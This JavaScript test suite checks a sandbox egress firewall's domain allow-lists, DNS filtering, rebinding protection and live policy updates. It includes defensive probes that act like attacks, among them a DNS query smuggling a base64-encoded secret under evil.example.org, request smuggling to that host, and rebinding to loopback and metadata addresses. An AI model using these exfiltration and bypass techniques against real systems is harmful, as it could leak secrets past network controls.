// SPDX-License-Identifier: Apache-2.0
// Domain rules: names are checked in what is sent, looked up outside, and nothing gets past.
import { test, after, before } from '../../lib/case.mjs'
import assert from 'node:assert/strict'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { execFileSync } from 'node:child_process'
import { api, outputOf, server, shell, stream, withRaw } from '../../lib/client.mjs'
import { newServer } from '../../lib/server.mjs'
import { childrenOf, nameOf, until } from '../../lib/host.mjs'
import { certificates, outside } from '../../lib/outside.mjs'

const NAMES = [
	'api.example.com',
	'www.example.com',
	'example.com',
	'other.example.net',
	'evil.example.org',
	'host.example.com',
]
const ALL = '0.0.0.0/0'
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'atoll-domains-'))
let out, own, opt, tls

before(async () => {
	tls = certificates(dir, NAMES)
	out = await outside({ hosts: 4, tls })
	out.setDns(names())
	own = await newServer(server.buildDir, { dns_servers: out.at(5) }).start()
	opt = { base: own.url, key: own.key }
})
after(async () => {
	const left = own && (await own.stop())
	out?.end()
	fs.rmSync(dir, { recursive: true, force: true })
	assert.ok(!left || left.clean, JSON.stringify(left))
})

// 2: the hosts below example.com, 3: the others, 4: nobody's, 5: the name server.
function names(more = {}) {
	return {
		'api.example.com': [out.at(2)],
		'www.example.com': [out.at(2)],
		'example.com': [out.at(2)],
		'other.example.net': [out.at(3)],
		'evil.example.org': [out.at(3)],
		'rebind.example.com': ['10.0.0.1', '127.0.0.1', '169.254.169.254'],
		'host.example.com': [out.at(1)],
		'mixed.example.com': ['192.168.0.1', out.at(2)],
		...more,
	}
}

const run = (sbx, command, user) => shell(sbx, command, { base: own.url, user })
const withPolicy = (network, use) => withRaw({ timeout: 120, network }, use, opt)

// What the server outside saw, or null when it was not reached; -k because the test's own authority is nobody's.
async function get(sbx, url, more = '') {
	const got = await run(sbx, `curl -sk -m 8 ${more} '${url}'`)
	if (got.code === 0 && got.stdout.startsWith('{')) return JSON.parse(got.stdout)
	assert.notEqual(got.code, 28, `left to hang: ${url}`)
	assert.notEqual(got.code, 0, got.stdout)
	return null
}

const only = (...allowOut) => ({ denyOut: [ALL], allowOut })
const update = (sbx, body) => api('PUT', `/sandboxes/${sbx.sandboxID}/network`, body, opt)

test('an allowed name is reached by HTTP and HTTPS, others are refused at once', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		assert.equal((await get(sbx, 'https://api.example.com/a')).headers.host, 'api.example.com')
		assert.equal((await get(sbx, 'http://api.example.com/b')).address, out.at(2))
		assert.equal(await get(sbx, 'https://other.example.net/'), null)
		assert.equal(await get(sbx, 'http://other.example.net/'), null)
		assert.equal(await get(sbx, 'https://example.com/'), null)
		assert.equal(await get(sbx, 'https://www.example.com/'), null)
	})
})

test('wildcards stand for what is below, in any case', async () => {
	await withPolicy(only('*.Example.COM'), async (sbx) => {
		assert.ok(await get(sbx, 'https://api.example.com/'))
		assert.ok(await get(sbx, 'https://WWW.example.com/'))
		assert.equal(await get(sbx, 'https://example.com/'), null)
		assert.equal(await get(sbx, 'https://other.example.net/'), null)
	})
	await withPolicy(only('*'), async (sbx) => {
		assert.ok(await get(sbx, 'https://other.example.net/'))
		assert.equal(await get(sbx, `https://${out.at(2)}/`), null)
	})
})

test('an address instead of a name is refused, whatever it is called on the way', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		assert.equal(await get(sbx, `https://${out.at(2)}/`), null)
		assert.equal(await get(sbx, `http://${out.at(2)}/`), null)
		assert.equal(await get(sbx, `http://${out.at(2)}/`, '-H "Host: other.example.net"'), null)
		// The name decides, and where it is is looked up outside: pointing it elsewhere does not help.
		assert.equal(
			(await get(sbx, 'https://api.example.com/', `--resolve api.example.com:443:${out.at(4)}`))
				.address,
			out.at(2),
		)
		assert.equal(
			(await get(sbx, 'http://api.example.com/', `--resolve api.example.com:80:${out.at(4)}`))
				.address,
			out.at(2),
		)
	})
})

test('addresses can be allowed beside names', async () => {
	await withPolicy(only('api.example.com', out.at(3)), async (sbx) => {
		assert.ok(await get(sbx, 'https://api.example.com/'))
		assert.ok(await get(sbx, `https://${out.at(3)}/`))
		assert.equal(await get(sbx, `https://${out.at(4)}/`), null)
	})
})

test('DNS servers that are named are open, by whatever protocol, and no others', async () => {
	const policy = (dnsServers) => ({ ...only('api.example.com'), dnsServers })

	await withPolicy(policy([out.at(3)]), async (sbx) => {
		assert.ok(await get(sbx, 'https://api.example.com/'))
		assert.ok(await get(sbx, `https://${out.at(3)}/`), 'the server that was named')
		assert.equal(await get(sbx, `https://${out.at(4)}/`), null)
		assert.equal((await update(sbx, policy([out.at(4)]))).status, 204)
		assert.equal(await get(sbx, `https://${out.at(3)}/`), null)
		assert.ok(await get(sbx, `https://${out.at(4)}/`))
	})
})

test('ports: 80 and 443, or those that the rule names', async () => {
	await withPolicy(only('api.example.com', '*.example.com:8443'), async (sbx) => {
		assert.ok(await get(sbx, 'https://api.example.com/'))
		assert.ok(await get(sbx, 'https://api.example.com:8443/'))
		assert.equal(await get(sbx, 'https://www.example.com/'), null)
		assert.ok(await get(sbx, 'https://www.example.com:8443/'))
		assert.equal(await get(sbx, 'http://api.example.com:8080/'), null)
	})
})

const tcp = (host, port, say = '') => `python3 -c "
import socket, sys
s = socket.create_connection(('${host}', ${port}), 4)
s.sendall(b'${say}' or b'x')
d = s.recv(100)
sys.exit(0 if d else 1)" 2>/dev/null`
const udp = (host, port, hex) => `python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('${host}', ${port}))
s.send(bytes.fromhex('${hex}')); s.recv(2000)" 2>/dev/null`
const QUERY = '123401000001000000000000036170690765786d706c6503636f6d0000010001'

test('QUIC, raw DNS, other ports and protocols are closed', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		for (const command of [
			udp(out.at(2), 443, '00'),
			udp(out.at(2), 53, QUERY),
			udp(out.at(5), 53, QUERY),
			tcp(out.at(2), 53),
			tcp(out.at(2), 7),
			tcp(out.at(2), 7000),
			tcp(out.at(2), 443, 'SSH-2.0-x\\r\\n'),
			tcp(out.at(2), 80, '\\x00\\x01\\x02'),
			`ping -c1 -W2 ${out.at(2)}`,
		])
			assert.notEqual((await run(sbx, command)).code, 0, command)
	})
})

test('only allowed names are answered, and no query for another one leaves', async () => {
	await withPolicy(only('api.example.com', '*.example.net'), async (sbx) => {
		assert.match(
			(await run(sbx, 'getent ahostsv4 api.example.com')).stdout,
			new RegExp(out.at(2).replace(/\./g, '\\.')),
		)
		assert.equal((await run(sbx, 'getent ahostsv4 other.example.net')).code, 0)
		out.queries.length = 0
		const stolen = 'c2VjcmV0LWtleS0xMjM0NTY3ODkw.evil.example.org'
		assert.notEqual((await run(sbx, `getent ahostsv4 ${stolen}`)).code, 0)
		assert.notEqual((await run(sbx, 'getent ahostsv4 example.com')).code, 0)
		for (const [type, name] of [
			[16, 'evil.example.org'],
			[5, 'x.example.org'],
			[1, 'a.api.example.com'],
		]) {
			const wire =
				name
					.split('.')
					.map(
						(l) =>
							l.length.toString(16).padStart(2, '0') +
							Buffer.from(l).toString('hex'),
					)
					.join('') + '00'
			const q = `1234010000010000000000 00${wire}${type.toString(16).padStart(4, '0')}0001`.replace(
				/ /g,
				'',
			)
			await run(sbx, udp(`10.${200 + own.slot}.0.1`, 53, q))
		}
		// Queries leave in the order in which they come: this one is behind all that must not.
		await run(sbx, 'getent ahostsv4 last.example.net')
		assert.ok(await until(() => out.queries.some((q) => q.name === 'last.example.net')), 'it does not come')
		assert.deepEqual(
			out.queries.filter((q) => !['other.example.net', 'last.example.net'].includes(q.name)),
			[],
		) /* the first of the two may still be on its way, or come again */
	})
})

test('a name that leads to a closed address leads nowhere', async () => {
	await withPolicy(only('*.example.com'), async (sbx) => {
		assert.equal(await get(sbx, 'http://rebind.example.com/'), null)
		assert.equal(await get(sbx, `http://host.example.com/`), null, 'the host itself')
		assert.equal((await get(sbx, 'http://mixed.example.com/')).address, out.at(2))
		out.setDns(names({ 'api.example.com': ['127.0.0.1'] }))
		// what was known is kept for two seconds
		assert.ok(await until(async () => (await get(sbx, 'http://api.example.com/')) === null, 10000, 200))
		out.setDns(names())
		assert.ok(await until(() => get(sbx, 'http://api.example.com/'), 10000, 200))
	})
})

test('the proxy itself is not there for those who ask for it', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		const gateway = `10.${200 + own.slot}.0.1`
		assert.notEqual((await run(sbx, tcp(gateway, 54))).code, 0)
		assert.equal(await get(sbx, 'http://api.example.com/', `-x http://${gateway}:54`), null)
	})
	await withPolicy(undefined, async (sbx) => {
		assert.notEqual((await run(sbx, tcp(`10.${200 + own.slot}.0.1`, 54))).code, 0)
	})
})

test('on a connection for one host no request for another one passes', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		out.requests.length = 0
		const got = await run(
			sbx,
			`python3 -c "
import socket
s = socket.create_connection(('api.example.com', 80), 4)
s.sendall(b'GET /one HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')
print(s.recv(10)[:12])
try:
    s.sendall(b'GET /two HTTP/1.1\\r\\nHost: evil.example.org\\r\\n\\r\\n')
    while s.recv(65536): pass
except OSError as e: print('cut')"`,
		)
		assert.match(got.stdout, /HTTP\/1/)
		assert.deepEqual(
			out.requests.map((r) => r.url),
			['/one'],
		)
	})
})

test('large bodies, many connections and websockets pass', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		for (const scheme of ['http', 'https']) {
			const size = await run(sbx, `curl -sk -m 60 ${scheme}://api.example.com/bytes/50000000 | wc -c`)
			assert.equal(size.stdout.trim(), '50000000')
			const up = await run(
				sbx,
				`head -c 20000000 /dev/zero | curl -sk -m 60 -T - ${scheme}://api.example.com/up`,
			)
			assert.equal(JSON.parse(up.stdout).bytes, 20000000)
		}
		const many = await run(
			sbx,
			'for i in $(seq 60); do curl -sk -m 20 https://api.example.com/$i | head -c 1 & done; wait',
		)
		assert.equal(many.stdout, '{'.repeat(60))
		const ws = await run(
			sbx,
			`python3 -c "
import socket
s = socket.create_connection(('api.example.com', 80), 4)
s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')
d = b''
while b'\\r\\n\\r\\n' not in d: d += s.recv(1000)
s.sendall(b'\\x81\\x05hello'); print(d[:12], s.recv(100)[2:])"`,
		)
		assert.match(ws.stdout, /HTTP\/1\.1 101.*hello/)
	})
})

test('an update holds at once and cuts what it forbids', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		const talk = await stream(
			sbx,
			'process.Process/Start',
			{
				process: {
					cmd: 'python3',
					args: [
						'-u',
						'-c',
						`
import socket, time
s = socket.create_connection(('api.example.com', 80), 5)
try:
    for i in range(1000):
        s.sendall(b'GET /%d HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n' % i); s.recv(65536); time.sleep(0.05)
        if i == 2: print('up')
except OSError as e: print('cut')
else: print('end')`,
					],
				},
				stdin: false,
			},
			{ base: own.url },
		)
		assert.ok(await until(() => outputOf(talk.events).includes('up'), 20000), 'it never talked')
		assert.equal((await update(sbx, only('other.example.net'))).status, 204)
		assert.ok(await until(() => outputOf(talk.events).includes('cut')), 'the connection went on')
		assert.equal(await get(sbx, 'https://api.example.com/'), null)
		assert.ok(await get(sbx, 'https://other.example.net/'))
		assert.equal((await update(sbx, {})).status, 204)
		assert.ok(await get(sbx, 'https://api.example.com/'))
		assert.ok(await get(sbx, `https://${out.at(4)}/`))
		assert.equal((await run(sbx, 'getent ahostsv4 evil.example.org')).code, 0)
		assert.equal((await update(sbx, { allow_internet_access: false })).status, 204)
		assert.equal(await get(sbx, 'https://api.example.com/'), null)
	})
})

test('a killed atoll-egress and a killed warden come back with every policy', async () => {
	await withPolicy(only('api.example.com'), async (sbx) => {
		const egress = childrenOf(own.pid).find((pid) => nameOf(pid) === 'atoll-egress')
		process.kill(egress, 'SIGKILL')
		assert.ok(
			await until(() =>
				childrenOf(own.pid).some((pid) => pid !== egress && nameOf(pid) === 'atoll-egress'),
			),
		)
		assert.ok(await until(() => get(sbx, 'https://api.example.com/')))
		assert.equal(await get(sbx, 'https://other.example.net/'), null)
		assert.notEqual((await run(sbx, 'getent ahostsv4 evil.example.org')).code, 0)
		own.signal('SIGKILL')
		await own.exited
		await own.start()
		assert.ok(await until(() => get(sbx, 'https://api.example.com/')))
		assert.equal(await get(sbx, 'https://other.example.net/'), null)
		assert.notEqual((await run(sbx, 'getent ahostsv4 evil.example.org')).code, 0)
	})
})

test('policies do not leak to the next sandbox at the same place', async () => {
	const free = () => execFileSync('nft', ['list', 'table', 'inet', `atoll${own.slot}`], { encoding: 'utf8' })
	assert.ok(await until(() => !/: jump|chain (rules|divert)\d/.test(free())), 'a chain is left')
	await withPolicy(undefined, async (sbx) => {
		assert.ok(await get(sbx, `https://${out.at(4)}/`))
		assert.equal((await run(sbx, 'getent ahostsv4 evil.example.org')).code, 0)
	})
})

test('domain rules that make no sense are refused by the name of their field', async () => {
	for (const [network, field] of [
		[{ allowOut: ['example.com'] }, 'network.denyOut'],
		[{ allowOut: ['exa mple.com'], denyOut: [ALL] }, 'network.allowOut[0]'],
		[{ allowOut: ['a.com', '*.*.com'], denyOut: [ALL] }, 'network.allowOut[1]'],
		[{ allowOut: ['https://a.com'], denyOut: [ALL] }, 'network.allowOut[0]'],
		[{ allowOut: ['bücher.example'], denyOut: [ALL] }, 'network.allowOut[0]'],
		[{ allowOut: ['a.com:0'], denyOut: [ALL] }, 'network.allowOut[0]'],
	]) {
		const res = await api('POST', '/sandboxes', { templateID: 'base', network }, opt)
		assert.equal(res.status, 400, JSON.stringify(network))
		assert.ok(res.json.message.includes(field), res.json.message)
	}
})
